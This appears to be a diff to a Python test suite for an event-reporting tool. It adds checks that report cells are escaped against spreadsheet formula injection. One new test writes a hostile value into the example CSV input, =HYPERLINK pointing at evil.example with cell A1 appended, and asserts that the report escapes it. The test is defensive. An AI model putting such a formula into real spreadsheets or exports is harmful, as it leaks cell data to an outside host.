@@ -104,6 +104,9 @@ def test_example_day_routes_exactly_the_matching_events(repo_root, tmp_path):
         assert name.startswith(f"{DAY}-{rep['type']}-")
         if "severity" in rtype.columns:  # the event's own level or the type's default, never empty
             assert all(r["severity"] in SEVERITY_LEVELS for r in rows), rep["path"]
+        # no string cell can run as a spreadsheet formula (docs/reports.md)
+        strings = [c for c, t in rtype.column_types.items() if str(t) == "string"]
+        assert not any(r[c].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in strings)
     assert got == expected
     # every kind of recipient received something
     kinds = {r["kind"] for r in summary.reports}
@@ -396,3 +399,28 @@ def test_an_input_failing_after_its_events_were_stored_counts_once_as_failed(rep
     assert data["rows_stored"] == 174 - data["rows_quarantined"]
     assert not any(r["type"] == "scan_ssl" for r in data["reports"])
     assert not list((tmp_path / "data/events" / f"date={DAY}").glob("type=scan_ssl/*.parquet"))
+
+
+def test_attacker_text_reaches_reports_escaped_and_recoverable(repo_root, tmp_path):
+    from herald.reports.cells import unescape_formula
+
+    inbox = tmp_path / "inbox"
+    shutil.copytree(repo_root / "examples/inbox", inbox)
+    path = inbox / DAY / "event4_sinkhole_http.csv"
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for r in rows:
+        r["http_agent"], r["http_url"] = evil, "-2+3"
+    with open(path, "w", newline="", encoding="utf-8") as fh:
+        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
+        w.writeheader()
+        w.writerows(rows)
+    settings, _ = example_settings(repo_root, tmp_path, inbox)
+    summary = run_day(settings, DAY)
+    reps = [r for r in summary.reports if r["type"] == "event4_sinkhole_http"]
+    assert reps
+    for rep in reps:
+        for row in read_report(rep["path"]):
+            assert row["http_agent"] == "'" + evil and unescape_formula(row["http_agent"]) == evil
+            assert row["http_url"] == "'-2+3" and unescape_formula(row["http_url"]) == "-2+3"
